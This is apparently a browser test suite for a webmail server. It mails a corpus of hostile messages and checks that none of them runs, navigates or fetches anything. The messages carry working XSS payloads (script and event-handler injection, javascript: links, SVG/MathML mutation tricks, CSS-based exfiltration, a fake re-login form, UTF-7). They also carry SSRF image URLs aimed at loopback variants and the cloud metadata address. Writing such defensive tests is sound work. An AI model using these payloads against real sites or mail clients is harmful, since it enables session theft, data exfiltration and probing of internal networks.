/**
 * ATTACKS.md WB-01, WB-02, WB-03, WB-08 in a real browser: a corpus of hostile HTML and plain-text
 * mails is delivered over SMTP and opened one by one in the webmail in Chromium. Every payload
 * aims at a canary web server on loopback (scripts, event handlers, `javascript:` links, SVG and
 * MathML tricks, CSS imports and backgrounds, forms, meta refresh, frames, remote images, UTF-7).
 * Nothing may run (no dialog), nothing may reach the canary or any other host, and neither the page
 * nor a message frame may navigate. Remote images stay blocked until the user allows them; then,
 * and only then, the canary sees the image request, made by the server, never by the browser.
 * Images at inside addresses (a stand-in server on 127.0.0.2, the cloud metadata address, every
 * spelling of loopback, a redirect inward) are never fetched, even when allowed.
 */
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import { launchBrowser, noBrowser, screenshotPath, signIn } from '../helpers/browser.ts';
import { cliOk, makeDataDir, type RunningServer, startServer } from '../helpers/server.ts';
import { relay } from '../helpers/smtp.ts';
import { until } from '../helpers/wait.ts';

const VICTIM = { address: 'vic@example.test', password: 'vic-password-1' };

/** A 1×1 transparent PNG. */
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);

/** The hostile messages: subject, Content-Type and body. `C` is the canary's base URL. */
const corpus = (C: string): { subject: string; type: string; body: string }[] => {
  const svgScript = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" id="x"><script>alert('svg-use');fetch('${C}/svg-use')</script></svg>`,
  ).toString('base64');
  const html = 'text/html; charset=utf-8';
  return [
    {
      subject: 'script',
      type: html,
      body: `<p>hello</p><script>alert('script');fetch('${C}/script')</script>`,
    },
    {
      subject: 'event handlers',
      type: html,
      body: `<img src=x onerror="alert('onerror');new Image().src='${C}/onerror'"><body onload="alert('onload')"><div onmouseover="alert('mouse')">hover me</div><p onclick="alert('click')">click me</p>`,
    },
    {
      subject: 'details ontoggle',
      type: html,
      body: `<details open ontoggle="alert('ontoggle');fetch('${C}/toggle')"><summary>s</summary>x</details>`,
    },
    {
      subject: 'javascript links',
      type: html,
      body: `<a href="javascript:alert('js1')">one</a> <a href=" JaVaScRiPt:alert('js2')">two</a> <a href="jav&#x09;ascript:alert('js3')">three</a> <a href="data:text/html,<script>alert('data')</script>">four</a> <map name=m><area shape=rect coords=0,0,50,50 href="javascript:alert('area')"></map><img usemap=#m src="data:image/png;base64,${PIXEL.toString('base64')}" width=50 height=50>`,
    },
    {
      subject: 'svg tricks',
      type: html,
      body: `<svg onload="alert('svg-onload')"><use href="data:image/svg+xml;base64,${svgScript}#x"></use><animate attributeName="href" values="javascript:alert('animate')"/><a><text x=10 y=10>svg link</text></a><set attributeName="onmouseover" to="alert('set')"/></svg>`,
    },
    {
      subject: 'namespace confusion',
      type: html,
      body: `<svg><style><//><body onload="alert('mxss1')"></style></svg><math><mtext><table><mglyph><style><img src=x onerror="alert('mxss2')"></style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=alert('mxss3')>">`,
    },
    {
      subject: 'css exfiltration',
      type: html,
      body: `<style>@import url(${C}/import.css); p{background:url(${C}/style-tag)}</style><link rel=stylesheet href="${C}/link.css"><div style="background-image:url(${C}/inline-style)">styled</div><p style="color:red;background:url('${C}/inline2')">red</p><input value="secret" style="background:url(${C}/input)">`,
    },
    {
      subject: 'forms and frames',
      type: html,
      body: `<form action="${C}/form" method=post><input name=password value=hunter2><button>Log in again</button></form><iframe src="${C}/iframe"></iframe><object data="${C}/object"></object><embed src="${C}/embed"><base href="${C}/base/"><a href="relative">rel</a>`,
    },
    {
      subject: 'meta refresh',
      type: html,
      body: `<html><head><meta http-equiv="refresh" content="0;url=${C}/meta"></head><body>wait</body></html>`,
    },
    {
      subject: 'remote images everywhere',
      type: html,
      body: `<img srcset="${C}/srcset 2x"><table background="${C}/table-bg"><tr><td background="${C}/td-bg">cell</td></tr></table><video poster="${C}/poster"></video><input type=image src="${C}/input-image"><picture><source srcset="${C}/source"></picture><img src="//127.0.0.1/protocol-relative">`,
    },
    {
      subject: 'utf-7',
      type: 'text/html; charset=utf-7',
      body: `+ADw-script+AD4-alert('utf7')+ADw-/script+AD4- +ADw-img src=x onerror=alert('utf7img')+AD4-`,
    },
    {
      subject: 'plain text',
      type: 'text/plain; charset=utf-8',
      body: `[1]: javascript:alert('md')\nhttp://x.test/?"onmouseover="alert('quote')\n<script>alert('plain')</script>\n<img src=${C}/plain-img>`,
    },
  ];
};

/** What the XSS suite reads of an image in a message frame (the test has no DOM types). */
interface FrameImage {
  getAttribute(name: string): string | null;
  complete: boolean;
  naturalWidth: number;
  getBoundingClientRect(): { width: number; height: number };
  ownerDocument: { defaultView: { innerWidth: number; innerHeight: number } | null };
}

/** What the XSS suite reads of a reply's editor. */
interface QuoteRoot {
  querySelectorAll(selector: string): Iterable<{
    tagName: string;
    attributes: Iterable<{ name: string; value: string }>;
    outerHTML: string;
  }>;
}

describe('webmail XSS corpus in Chromium (WB-01, WB-02, WB-08)', { skip: noBrowser() ?? false }, () => {
  let data: { path: string; remove(): void };
  let server: RunningServer;
  let canary: Server;
  let C: string;
  /** A server on the inside network (127.0.0.2: not among the networks let through). */
  let inside: Server;
  let insidePort = 0;
  const insideHits: string[] = [];
  let base: string;
  const hits: string[] = [];
  const browsers: { close(): Promise<void> }[] = [];

  before(async () => {
    inside = createServer((req, res) => {
      insideHits.push(req.url ?? '');
      res.writeHead(200, { 'Content-Type': 'image/png' });
      res.end(PIXEL);
    });
    await new Promise<void>((resolve) => inside.listen(0, '127.0.0.2', resolve));
    insidePort = (inside.address() as AddressInfo).port;
    canary = createServer((req, res) => {
      hits.push(req.url ?? '');
      if (req.url === '/redirect') {
        res.writeHead(302, { Location: `http://127.0.0.2:${insidePort}/via-redirect` });
        res.end();
      } else {
        res.writeHead(200, { 'Content-Type': 'image/png', 'Cache-Control': 'no-store' });
        res.end(PIXEL);
      }
    });
    await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
    C = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
    // The canary stands for the internet: its address is let through, no other inside one.
    data = makeDataDir({
      domains: ['example.test'],
      users: [VICTIM],
      config: '[http]\nimageNetworks = "127.0.0.1/32"',
    });
    server = await startServer(data.path, ['http=127.0.0.1:0', 'smtp=127.0.0.1:0']);
    base = `http://127.0.0.1:${server.ports['http']}`;
    const smtp = relay(server.ports['smtp']!);
    const send = (subject: string, type: string, body: string) =>
      smtp.sendMail({
        envelope: { from: 'mallory@evil.test', to: [VICTIM.address] },
        raw: `From: Mallory <mallory@evil.test>\r\nTo: ${VICTIM.address}\r\nSubject: ${subject}\r\nContent-Type: ${type}\r\n\r\n${body.replace(/\n/g, '\r\n')}\r\n`,
      });
    await send(
      'remote pixel',
      'text/html; charset=utf-8',
      `<p>Look at our offer</p><img src="${C}/pixel.png" alt="offer">`,
    );
    for (const m of corpus(C)) await send(m.subject, m.type, m.body);
    const P = insidePort;
    await send(
      'inside images',
      'text/html; charset=utf-8',
      [
        `http://127.0.0.2:${P}/literal.png`,
        `http://0x7f000002:${P}/hex.png`,
        `http://2130706434:${P}/decimal.png`,
        `http://[::ffff:127.0.0.2]:${P}/mapped.png`,
        `http://[::1]:${P}/loopback6.png`,
        'http://169.254.169.254/latest/meta-data/iam',
        `${C}/redirect`,
      ]
        .map((u, i) => `<img src="${u}" alt="inside ${i}">`)
        .join(''),
    );
    // An SVG and an HTML attachment: offered for download only, never previewed (WB-03).
    await smtp.sendMail({
      envelope: { from: 'mallory@evil.test', to: [VICTIM.address] },
      from: 'mallory@evil.test',
      to: VICTIM.address,
      subject: 'attachments',
      text: 'see attached',
      attachments: [
        {
          filename: 'chart.svg',
          contentType: 'image/svg+xml',
          content: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg-file')"/>`,
        },
        { filename: 'page.html', contentType: 'text/html', content: `<script>alert('html-file')</script>` },
      ],
    });
    smtp.close();
  });
  after(async () => {
    for (const b of browsers) await b.close();
    await server?.stop();
    data?.remove();
    canary?.closeAllConnections();
    canary?.close();
    inside?.closeAllConnections();
    inside?.close();
  });

  /** Opens the webmail signed in, recording dialogs, requests off our origin and navigations. */
  const session = async () => {
    const b = await launchBrowser();
    browsers.push(b);
    const page = b.context.pages()[0] ?? (await b.context.newPage());
    const dialogs: string[] = [];
    const foreign: string[] = [];
    const navigations: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    b.context.on('request', (r) => {
      const url = r.url();
      if (!url.startsWith(`${base}/`) && !/^(data|blob|about):/.test(url)) foreign.push(url);
    });
    b.context.on('page', (p) => navigations.push(`new page: ${p.url()}`));
    page.on('framenavigated', (f) => {
      const url = f.url();
      if (f === page.mainFrame() ? !url.startsWith(`${base}/`) : url !== 'about:srcdoc')
        navigations.push(url);
    });
    await page.goto(`${base}/`);
    await signIn(page, VICTIM.address, VICTIM.password);
    return { page, dialogs, foreign, navigations };
  };

  /** Waits until the remote image of "remote pixel" is in its frame as a `data:` URL, decoded and
   * laid out (a frame left blank fails here); says what it last saw when it is not. */
  const imageShown = async (page: Page) => {
    const img = page.frameLocator('iframe.body').last().locator('img[alt="offer"]');
    let last: unknown;
    const state = (i: FrameImage) => ({
      src: (i.getAttribute('src') ?? '').slice(0, 22),
      complete: i.complete,
      width: i.naturalWidth,
      box: [i.getBoundingClientRect().width, i.getBoundingClientRect().height],
      frame: [i.ownerDocument.defaultView?.innerWidth, i.ownerDocument.defaultView?.innerHeight],
    });
    const seen = async () => {
      last = await img
        .evaluate(state, undefined, { timeout: 2000 })
        .catch((e: Error) => e.message.split('\n')[0]);
      const s = last as Partial<ReturnType<typeof state>>;
      const drawn = s.complete && s.width === 1 && s.box?.[0] === 1 && s.box[1] === 1;
      return s.src === 'data:image/png;base64,' && drawn ? true : undefined;
    };
    await until('the remote image shown in the frame', seen, 30_000).catch((e: Error) =>
      assert.fail(`${e.message}; last seen: ${JSON.stringify(last)}`),
    );
  };

  /** Opens the message with this subject and pokes at its body; with `images`, once its remote
   * images are in (a new frame is drawn when they arrive). */
  const read = async (page: Page, subject: string, images = false) => {
    await page.locator('.row .subject', { hasText: new RegExp(`(^|\\s)${subject}$`) }).click();
    await page.locator('.reader h2', { hasText: subject }).waitFor();
    const frame = page.locator('iframe.body').last();
    await frame.waitFor();
    assert.equal(await frame.getAttribute('sandbox'), 'allow-popups allow-popups-to-escape-sandbox');
    const inner = page.frameLocator('iframe.body').last();
    if (images) await imageShown(page);
    await inner.locator('html').hover({ force: true });
    // Every element a payload could hang a handler or a link on, except real web links (which
    // would rightly open a new tab).
    for (const el of await inner.locator('a:not([href^="http"]), area, p, div, summary, td').all())
      await el.click({ timeout: 1000 }).catch(() => {});
    await page.waitForTimeout(300);
  };

  /** Answers the open message: its formatting is quoted in the page itself, so only plain
   * elements may come along, with no attribute but a web or mail link's address. */
  const answer = async (page: Page, subject: string) => {
    await page.getByRole('button', { name: 'Reply', exact: true }).click();
    const dialog = page.getByRole('dialog');
    const writing = dialog.getByRole('textbox', { name: 'Message' });
    await writing.locator('blockquote').waitFor({ state: 'attached' });
    const odd = await writing.evaluate((root: QuoteRoot) =>
      [...root.querySelectorAll('*')]
        .filter(
          (el) =>
            !/^(?:DIV|P|BR|B|STRONG|I|EM|U|S|UL|OL|LI|BLOCKQUOTE|PRE|CODE|A)$/.test(el.tagName) ||
            [...el.attributes].some(
              (a) => !(el.tagName === 'A' && a.name === 'href' && /^(?:https?:\/\/|mailto:)/i.test(a.value)),
            ),
        )
        .map((el) => el.outerHTML.slice(0, 120)),
    );
    assert.deepEqual(odd, [], `the answer to "${subject}" quotes markup`);
    await dialog.getByLabel('Subject').press('Escape');
    await dialog.waitFor({ state: 'detached' });
  };

  test('no payload runs, reaches another host or navigates; attachments are not previewed', async () => {
    const { page, dialogs, foreign, navigations } = await session();
    for (const m of corpus(C)) {
      await read(page, m.subject);
      if (m.type.startsWith('text/html')) await answer(page, m.subject);
    }
    await read(page, 'attachments');
    assert.equal(await page.locator('img.preview').count(), 0, 'an SVG attachment was previewed');
    const svg = page.getByRole('link', { name: 'chart.svg' });
    assert.match((await svg.getAttribute('href')) ?? '', /type=image%2Fsvg%2Bxml/);
    // Served as a download of inert type, whatever the link asks for.
    const download = await page.request.get(`${base}${await svg.getAttribute('href')}`);
    assert.equal(download.headers()['content-type'], 'application/octet-stream');
    assert.match(download.headers()['content-disposition'] ?? '', /^attachment/);
    await page.screenshot({ path: screenshotPath('xss-corpus') });
    await page.waitForTimeout(500);
    assert.deepEqual(dialogs, [], 'a dialog opened');
    assert.deepEqual(hits, [], 'the canary was reached');
    assert.deepEqual(foreign, [], 'a request left for another host');
    assert.deepEqual(navigations, [], 'something navigated');
  });

  test('remote images stay blocked until allowed, for the message or the sender', async () => {
    hits.length = 0;
    const { page, foreign } = await session();
    await read(page, 'remote pixel');
    const banner = page.getByRole('status').filter({ hasText: 'remote image' });
    await banner.waitFor();
    await page.waitForTimeout(500);
    assert.deepEqual([...hits], []);
    assert.deepEqual([...foreign], []);
    await page.screenshot({ path: screenshotPath('remote-images-blocked') });
    await banner.getByRole('button', { name: 'Show images' }).click();
    // The server fetched it; the page shows it as a data: URL and itself asked nobody else.
    await imageShown(page);
    assert.deepEqual(hits, ['/pixel.png']);
    assert.deepEqual(foreign, []);

    // Another message: blocked again; "always for this sender" is remembered in this browser.
    await read(page, 'script');
    await read(page, 'remote pixel');
    await page.getByRole('button', { name: /Always show from mallory@evil\.test/ }).click();
    await imageShown(page);
    await read(page, 'plain text');
    await read(page, 'remote pixel', true);
    assert.equal(await page.getByRole('button', { name: 'Show images' }).count(), 0);
    // The server kept the image it fetched: the canary was asked once in all.
    assert.deepEqual(hits, ['/pixel.png']);
    assert.deepEqual(foreign, []);
  });

  test('images at inside addresses are never fetched, even when allowed (WB-08)', async () => {
    hits.length = 0;
    const { page, foreign } = await session();
    await read(page, 'inside images');
    await page.getByRole('button', { name: 'Show images' }).click();
    await page.getByText('7 images could not be loaded.').waitFor();
    assert.deepEqual(insideHits, [], 'an inside address was reached');
    // The canary was asked once and answered with a redirect inward, which was not followed.
    assert.deepEqual(hits, ['/redirect']);
    assert.deepEqual(foreign, []);
    assert.equal(await page.frameLocator('iframe.body').last().locator('img[src]').count(), 0);
    // Each attempt is in the audit log with the host asked.
    const fetches = cliOk(data.path, ['audit', 'search', '--action', 'mail.image.fetch'])
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { outcome: string; detail: { host: string; reason?: string } });
    const refused = fetches.filter((f) => f.outcome === 'refused' && f.detail.reason === 'blocked');
    assert.ok(refused.some((f) => f.detail.host === '169.254.169.254'));
    assert.ok(
      refused.some((f) => f.detail.host === `127.0.0.1:${C.split(':').at(-1)}`),
      'the redirect',
    );
    assert.ok(fetches.some((f) => f.outcome === 'ok' && f.detail.host === C.slice('http://'.length)));
  });
});
